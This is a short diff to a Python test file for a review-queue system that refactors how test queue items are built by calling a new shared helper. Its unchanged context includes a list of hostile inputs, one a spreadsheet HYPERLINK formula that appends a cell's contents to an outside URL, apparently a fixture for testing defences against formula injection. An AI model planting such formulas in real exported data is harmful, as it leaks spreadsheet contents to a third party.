@@ -4,6 +4,7 @@ from typing import Any
 
 from methods.ids import content_id
 from methods.review import QueueItem
+from tests.resources.review.review_queue import item_with
 
 HOSTILE = [
     '=HYPERLINK("http://example.org/?"&A1,"click")',
@@ -92,13 +93,7 @@ def item_of(kind: str, text: str = "A tower.", image_ids: tuple[str, ...] = ()) 
             "scores": {"Creativity": None, "Richness": None},
         },
     }[kind if kind != "flagged_item" else "multiple_choice"]
-    return QueueItem(
-        item_id=content_id("item", kind, text),
-        kind=kind,
-        content=content,
-        content_hash=content_id(content),
-        image_ids=list(content.get("image_ids", [])),
-    )
+    return item_with(content, kind, content_id("item", kind, text))
 
 
 EDITS: dict[str, tuple[dict[str, str], dict[str, Any]]] = {
